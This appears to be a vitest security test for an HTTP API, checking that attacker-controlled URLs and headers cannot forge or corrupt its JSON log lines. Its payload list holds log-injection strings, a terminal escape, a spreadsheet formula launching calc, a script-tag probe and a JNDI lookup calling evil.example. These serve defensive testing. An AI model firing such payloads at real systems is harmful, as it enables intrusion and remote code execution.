import { expect, test } from 'vitest'
import { openListening } from './support/listening.ts'
import { exchange, head } from './support/raw-client.ts'

const FORGED = '{"level":"info","event":"forged"}'
const ATTACKS = [
  `\r\n${FORGED}\r\n`,
  `\n${FORGED}`,
  `\u2028${FORGED}`,
  `\u0085${FORGED}`,
  `"}${FORGED}`,
  '\u001b[2J\u001b]0;title\u0007',
  '\u202egnp.exe',
  '\u0000',
  '=cmd|"/c calc"!A1',
  '<script>alert(1)</script>',
  `$\{jndi:ldap://evil.example/a}`,
]

/** Each write is one line, one JSON object, and none of them was made by a caller. */
const expectWhole = (logged: readonly string[]) => {
  expect(logged.length).toBeGreaterThan(0)
  for (const line of logged) {
    expect(line.slice(0, -1)).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u)
    expect(line.endsWith('\n')).toBe(true)
    expect(JSON.parse(line).event).not.toBe('forged')
  }
  expect(logged.join('')).not.toMatch(/forged|alert\(|jndi|calc|gnp\.exe|title/)
}

test('M13: what a caller puts into an address or a header becomes no log line and no part of one', async () => {
  await using api = await openListening()
  for (const attack of ATTACKS) {
    const encoded = encodeURIComponent(attack)
    const latin1 = Buffer.from(attack).toString('latin1')
    const requests = [
      head(`GET /v1/registrations/${encoded}`, { ...api.authorization, connection: 'close' }),
      head(`GET /v1/registrations?idcardid=${encoded}&${encoded}=1`, { ...api.authorization, connection: 'close' }),
      head(`GET /${encoded}`, { connection: 'close' }),
      head('GET /v1/me', { authorization: `Bearer ${latin1}`, connection: 'close' }),
      head('GET /v1/me', { ...api.authorization, 'x-request-id': latin1, connection: 'close' }),
      head('GET /v1/me', {
        ...api.authorization,
        'user-agent': latin1,
        'x-forwarded-for': latin1,
        connection: 'close',
      }),
      head('GET /v1/me', { ...api.authorization, 'accept-language': latin1, referer: latin1, connection: 'close' }),
    ]
    for (const request of requests) {
      const text = await exchange(api.url, request)
      // A line break makes two headers of one, which is the caller's business; it must not come back as one of ours.
      expect(text.split('\r\n\r\n')[0]).not.toMatch(/forged|alert\(|jndi/)
    }
  }
  expectWhole(api.logged)
})
